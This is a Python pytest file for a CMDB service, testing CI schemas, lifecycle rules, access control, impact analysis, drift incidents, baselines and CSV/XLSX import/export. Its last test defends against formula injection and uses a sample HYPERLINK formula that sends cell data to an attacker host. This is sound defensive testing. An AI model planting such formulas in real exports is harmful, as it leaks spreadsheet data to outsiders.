"""CMDB service: classes and attributes, coding rule, lifecycle, access, relations, impact, CI control,
drift, baselines, import/export."""
from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import select

from app.models import CIChange, ConfigurationItem, Event, Incident, Organisation
from app.services import cmdb
from app.services.change import apply_ci_changes
from app.services.errors import Conflict, Forbidden, ValidationFailed
from app.services.instances import start_instance


def _ci(db, code: str) -> ConfigurationItem:
    return db.session.scalar(select(ConfigurationItem).where(ConfigurationItem.code == code))


def _org(db, code: str) -> Organisation:
    return db.session.scalar(select(Organisation).where(Organisation.code == code))


def test_every_class_has_a_schema_and_attributes_are_validated_per_class(db, user):
    assert set(cmdb.CLASSES) == {"network_device", "server", "storage", "security_device", "system_software",
                                 "application", "database", "website", "terminal", "machine_room_facility",
                                 "document", "service"}
    for ci_type in cmdb.CLASSES:
        assert cmdb.class_schema(ci_type)["additionalProperties"] is False
    lead = user("configuration_lead")
    with pytest.raises(ValidationFailed) as exc:
        cmdb.create_ci(lead, ci_type="server", name="x", attributes={"ip_address": "999.1.1.1", "cpu_cores": 0})
    assert set(exc.value.errors) == {"ip_address", "cpu_cores"}
    with pytest.raises(ValidationFailed) as exc:  # a database has no serial number
        cmdb.create_ci(lead, ci_type="database", name="x", attributes={"serial_number": "S1"})
    assert "serial_number" in exc.value.errors
    with pytest.raises(ValidationFailed):
        cmdb.create_ci(lead, ci_type="server", name="x", attributes={"purchase_date": "2026-13-40"})


def test_codes_follow_the_coding_rule_per_class_and_organisation(db, user):
    lead = user("configuration_lead")
    a = cmdb.create_ci(lead, ci_type="server", name="应用服务器1", attributes={"ip_address": "10.9.0.1"})
    b = cmdb.create_ci(lead, ci_type="server", name="应用服务器2")
    c = cmdb.create_ci(lead, ci_type="website", name="网站", attributes={"url": "https://x.example.org"})
    assert a.code == "SRV-COUNTY-00001" and b.code == "SRV-COUNTY-00002" and c.code == "WEB-COUNTY-00001"
    assert a.status == "planned" and a.ip_address == "10.9.0.1"
    created = db.session.scalar(select(CIChange).where(CIChange.ci_id == a.id))
    assert created.field == "created" and created.change_key == "CREATE" and created.actor_id == lead.id


def test_lifecycle_transitions_are_enforced(db, user):
    lead = user("configuration_lead")
    ci = cmdb.create_ci(lead, ci_type="terminal", name="终端", controlled=False)
    with pytest.raises(Conflict):
        cmdb.update_ci(lead, ci, {"status": "retired"})  # planned -> retired is not allowed
    cmdb.update_ci(lead, ci, {"status": "in_use"})
    cmdb.update_ci(lead, ci, {"status": "under_maintenance"})
    cmdb.update_ci(lead, ci, {"status": "retired"})
    cmdb.update_ci(lead, ci, {"status": "disposed"})
    with pytest.raises(Conflict):
        cmdb.update_ci(lead, ci, {"status": "in_use"})
    fields = [h.field for h in cmdb.history(ci)]
    assert fields.count("status") == 4


def test_access_by_role_and_organisation(db, user):
    with pytest.raises(Forbidden):
        cmdb.get_ci(user("reporter"), "SRV-DB-01")  # plain users: no access
    assert cmdb.get_ci(user("line1"), "SRV-DB-01").code == "SRV-DB-01"  # staff read
    with pytest.raises(Forbidden):
        cmdb.create_ci(user("line1"), ci_type="server", name="x")  # staff do not write
    with pytest.raises(Forbidden):
        cmdb.get_ci(user("line1"), "WEB-PORTAL")  # the city's CI, above the county
    assert cmdb.get_ci(user("desk_city"), "SRV-DB-01")  # the city sees the county below it
    codes = {c.code for c in cmdb.list_cis(user("line1"))}
    assert "SRV-DB-01" in codes and "WEB-PORTAL" not in codes
    with pytest.raises(Forbidden):
        cmdb.create_ci(user("configuration_lead"), ci_type="server", name="x", organisation=_org(db, "city"))


def test_impact_follows_relation_directions(db, user):
    line1 = user("line1")
    got = cmdb.impact(line1, _ci(db, "SRV-DB-01"))
    by_code = {a["code"]: a for a in got.affected}
    # DB runs_on SRV, APP depends_on DB, APP provides_service SVC, WEB depends_on APP, SRV connected_to NET.
    assert set(by_code) == {"DB-ORA-01", "APP-EQM", "SVC-EQM", "WEB-PORTAL", "NET-CORE-01"}
    assert by_code["DB-ORA-01"]["depth"] == 1 and by_code["APP-EQM"]["via"] == "DB-ORA-01"
    assert [s["code"] for s in got.services] == ["SVC-EQM"] and got.user_count == 120
    # The application failing does not take its server down; storage failing takes everything down.
    assert "SRV-DB-01" not in {a["code"] for a in cmdb.impact(line1, _ci(db, "APP-EQM")).affected}
    storage = {a["code"] for a in cmdb.impact(line1, _ci(db, "STO-SAN-01")).affected}
    assert {"SRV-DB-01", "DB-ORA-01", "SVC-EQM"} <= storage
    # connected_to works both ways.
    assert "SRV-DB-01" in {a["code"] for a in cmdb.impact(line1, _ci(db, "NET-CORE-01")).affected}


def test_impact_cached_topology_and_sql_walk_agree(db, user):
    """The committed demo relations are walked from the in-memory topology; the SQL walk gives the same."""
    line1 = user("line1")
    for code in ("SRV-DB-01", "STO-SAN-01", "NET-CORE-01", "DB-ORA-01"):
        ci = _ci(db, code)
        got = cmdb.impact(line1, ci)
        assert got.stats["traversal"] in ("cached", "loaded")
        assert cmdb._traverse_sql(ci.id, 50) == cmdb._traverse_cached(cmdb.topology()[0], ci.id, 50)
        assert got.total == len(got.found) == sum(got.by_class.values())


def test_impact_pages_keep_exact_totals(db, user):
    lead = user("configuration_lead")
    hub = cmdb.create_ci(lead, ci_type="application", name="统一认证")
    apps = [cmdb.create_ci(lead, ci_type="application", name=f"应用{i}") for i in range(5)]
    svc = cmdb.create_ci(lead, ci_type="service", name="服务", attributes={"user_count": 7, "service_users": "全员"})
    for a in apps:
        cmdb.add_relation(lead, a, "depends_on", hub)
    cmdb.add_relation(lead, apps[-1], "provides_service", svc)
    cmdb.add_relation(lead, apps[0], "depends_on", apps[1])  # apps[0] is reached at depth 1, not 2
    assert cmdb.topology()[0] is None  # this transaction wrote relations: the walk reads them with SQL
    full = cmdb.impact(lead, hub)
    assert full.stats["traversal"] == "sql"
    assert full.total == 6 and full.by_class == {"application": 5, "service": 1} and full.max_depth == 2
    ordered = [a["code"] for a in full.affected]
    assert ordered == sorted(a.code for a in apps) + [svc.code]
    assert {a["depth"] for a in full.affected if a["ci_type"] == "application"} == {1}
    assert full.affected[-1]["via"] == apps[-1].code and full.affected[-1]["relation"] == "provides_service"
    page = cmdb.impact(lead, hub, limit=2, offset=3)
    assert [a["code"] for a in page.affected] == ordered[3:5]
    assert (page.total, page.shown_from, page.shown_to, page.next_offset, page.previous_offset) == (6, 4, 5, 5, 1)
    # The totals do not depend on the page.
    assert page.user_count == 7 and [s["code"] for s in page.services] == [svc.code]
    assert page.as_dict()["total"] == 6 and len(page.as_dict()["affected"]) == 2
    assert cmdb.impact(lead, hub, limit=0).affected == [] and cmdb.impact(lead, hub, offset=99).affected == []


def test_a_relation_write_in_any_form_changes_the_topology_token(db, user):
    from sqlalchemy import text

    from app.models import BusinessKeyCounter

    def token() -> int | None:
        return db.session.scalar(select(BusinessKeyCounter.value).where(BusinessKeyCounter.key == cmdb.TOPOLOGY_KEY))

    before = token()
    assert before is not None  # the demo data's relations set it
    a, b = _ci(db, "APP-EQM"), _ci(db, "NET-CORE-01")
    db.session.execute(text("INSERT INTO ci_relation (source_id, target_id, rel_type) VALUES (:s, :t, 'runs_on')"),
                       {"s": a.id, "t": b.id})
    assert token() != before
    assert cmdb.topology()[1] == "sql"
    # The uncommitted relation is seen by this transaction's walk.
    assert "APP-EQM" in {x["code"] for x in cmdb.impact(user("line1"), b).affected}


def test_part_of_and_cycles(db, user):
    lead = user("configuration_lead")
    whole = cmdb.create_ci(lead, ci_type="storage", name="阵列")
    disk = cmdb.create_ci(lead, ci_type="storage", name="磁盘柜")
    cmdb.add_relation(lead, disk, "part_of", whole)
    assert [a["code"] for a in cmdb.impact(lead, disk).affected] == [whole.code]
    assert cmdb.impact(lead, whole).affected == []
    a = cmdb.create_ci(lead, ci_type="application", name="A")
    b = cmdb.create_ci(lead, ci_type="application", name="B")
    c = cmdb.create_ci(lead, ci_type="application", name="C")
    cmdb.add_relation(lead, a, "depends_on", b)
    cmdb.add_relation(lead, b, "depends_on", c)
    cmdb.add_relation(lead, c, "depends_on", a)  # a cycle
    assert {x["code"] for x in cmdb.impact(lead, a).affected} == {b.code, c.code}
    with pytest.raises(Conflict):
        cmdb.add_relation(lead, a, "depends_on", b)
    with pytest.raises(ValidationFailed):
        cmdb.add_relation(lead, a, "likes", b)


def test_controlled_ci_changes_only_through_an_approved_change(db, user, english):
    lead = user("configuration_lead")
    ci = _ci(db, "SRV-DB-01")
    with pytest.raises(Conflict) as exc:
        cmdb.update_ci(lead, ci, {"os": "Debian 13"})
    assert "approved change" in exc.value.message
    change_lead = user("change_lead")
    change = start_instance("change", change_lead, {
        "summary": "升级操作系统", "description": "升级", "impact": "low", "urgency": "low", "risk": "low",
        "change_type": "normal"})
    applied = apply_ci_changes(change, [
        {"ci": "SRV-DB-01", "field": "os", "value": "Debian 13"},
        {"ci": "SRV-DB-01", "field": "memory_gb", "value": "256"},
        {"ci": "SRV-DB-01", "field": "ip_address", "value": "not-an-ip"},  # refused, CI untouched
        {"ci": "SRV-DB-01", "field": "status", "value": "planned"},  # in_use -> planned is no transition
    ], change_lead)
    db.session.flush()
    assert applied == 2
    assert ci.attributes["os"] == "Debian 13" and ci.attributes["memory_gb"] == 256.0
    assert ci.attributes["ip_address"] == "10.0.1.10" and ci.status == "in_use"
    rows = db.session.scalars(select(CIChange).where(CIChange.instance_id == change.id)).all()
    assert {(r.field, r.new_value, r.change_key) for r in rows} == {
        ("os", "Debian 13", change.business_key), ("memory_gb", "256.0", change.business_key)}
    types = [e.type for e in db.session.scalars(select(Event).where(Event.instance_id == change.id))]
    assert types.count("ci_changed") == 2 and types.count("ci_change_refused") == 2


def test_observed_configuration_drift_raises_an_unauthorised_change_incident(db, user):
    lead = user("configuration_lead")
    same = cmdb.import_observed(lead, cmdb.parse_records(
        "hostname,ip_address,os\nsrv-db-01,10.0.1.10,麒麟V10\n", "csv"))
    assert same["drift"] == [] and same["incident"] is None
    observed = json.dumps([
        {"hostname": "SRV-DB-01", "os": "Windows Server 2022", "ip_address": "10.0.1.10"},
        {"code": "NET-CORE-01", "ip_address": "10.0.0.1"},
        {"hostname": "rogue-box", "ip_address": "10.0.9.9"},
    ])
    result = cmdb.import_observed(lead, cmdb.parse_records(observed, "json"), source="scan.json")
    assert [d["ci"] for d in result["drift"]] == ["SRV-DB-01", None]
    assert result["drift"][0]["differences"] == [{"field": "os", "cmdb": "麒麟V10", "observed": "Windows Server 2022"}]
    incident = db.session.scalar(select(Incident).where(Incident.instance_id == result["incident"]["id"]))
    assert incident.channel == "system"
    assert "Windows Server 2022" in incident.symptoms and "rogue-box" in incident.symptoms
    assert [link.ci.code for link in incident.cis] == ["SRV-DB-01"]
    types = [e.type for e in db.session.scalars(select(Event).where(Event.instance_id == incident.instance_id))]
    assert "configuration_drift" in types and "task_ready" in types  # the desk records it
    with pytest.raises(Forbidden):
        cmdb.import_observed(user("line1"), [])


def test_baseline_compare_with_current_state_and_another_baseline(db, user):
    lead = user("configuration_lead")
    term = cmdb.create_ci(lead, ci_type="terminal", name="终端1", controlled=False, attributes={"location": "一楼"})
    first = cmdb.create_baseline(lead, "B1")
    assert term.code in first.snapshot and "runs_on SRV-DB-01" in first.snapshot["DB-ORA-01"]["relations"]
    cmdb.update_ci(lead, term, {"location": "二楼", "status": "in_use"})
    cmdb.add_relation(lead, term, "connected_to", _ci(db, "NET-CORE-01"))
    new = cmdb.create_ci(lead, ci_type="document", name="运维手册")
    diff = cmdb.compare(first.snapshot, cmdb.current_of(first, lead))
    assert diff["added"] == [new.code] and diff["removed"] == []
    changes = {(c["code"], x["field"], x["old"], x["new"]) for c in diff["changed"] for x in c["changes"]}
    assert changes == {(term.code, "status", "planned", "in_use"), (term.code, "location", "一楼", "二楼"),
                       (term.code, "relation", None, "connected_to NET-CORE-01")}
    second = cmdb.create_baseline(lead, "B2", [term.code])
    diff2 = cmdb.compare(first.snapshot, second.snapshot)
    assert term.code not in diff2["removed"] and "SRV-DB-01" in diff2["removed"]


def test_export_and_import_csv_and_xlsx(db, user):
    lead = user("configuration_lead")
    rows = cmdb.read_xlsx(cmdb.export_xlsx(lead))
    srv = next(r for r in rows if r["code"] == "SRV-DB-01")
    assert srv["hostname"] == "srv-db-01" and srv["ci_type"] == "server"
    csv_text = cmdb.export_csv(lead).decode("utf-8-sig")
    assert csv_text.splitlines()[0].startswith("code,name,ci_type,status,organisation,controlled")
    records = cmdb.parse_records(
        "code,name,ci_type,status,organisation,controlled,ip_address,serial_number\n"
        ",新交换机,network_device,planned,county,yes,10.2.0.1,SN1\n"
        ",坏的,network_device,planned,county,yes,300.0.0.1,\n"
        "SRV-DB-01,改名,server,in_use,county,yes,,\n", "csv")
    result = cmdb.import_cis(lead, records)
    assert result["created"] == ["NET-COUNTY-00001"] and result["updated"] == []
    assert [(e["row"], sorted(e["errors"])) for e in result["errors"]] == [(3, ["ip_address"]), (4, [])]
    assert _ci(db, "NET-COUNTY-00001").attributes == {"ip_address": "10.2.0.1", "serial_number": "SN1"}
    assert _ci(db, "SRV-DB-01").name == "环境质量数据库服务器"  # controlled: not changed by an import


def test_exports_never_carry_formulas(db, user):
    """A CI name or attribute typed as a formula is exported as text (CSV/formula injection), and an import
    of the exported CSV gives the value back unchanged."""
    from openpyxl import load_workbook

    lead = user("configuration_lead")
    evil = '=HYPERLINK("http://attacker.example/?x="&A1,"点击")'
    ci = cmdb.create_ci(lead, ci_type="server", name=evil, attributes={"location": "+1 机房", "supplier": "@供应商"})
    db.session.flush()
    book = load_workbook(io.BytesIO(cmdb.export_xlsx(lead)))
    cells = {c.value: c.data_type for row in book.active.iter_rows() for c in row if c.value is not None}
    assert cells[evil] == "s" and cells["+1 机房"] == "s"
    assert not any(t == "f" for t in cells.values())
    rows = list(csv.reader(io.StringIO(cmdb.export_csv(lead).decode("utf-8-sig"))))
    mine = next(r for r in rows if r[0] == ci.code)
    assert mine[1] == "'" + evil and "'+1 机房" in mine and "'@供应商" in mine
    back = next(r for r in cmdb.parse_records(cmdb.export_csv(lead).decode("utf-8-sig"), "csv")
                if r["code"] == ci.code)
    assert back["name"] == evil and back["location"] == "+1 机房" and back["supplier"] == "@供应商"
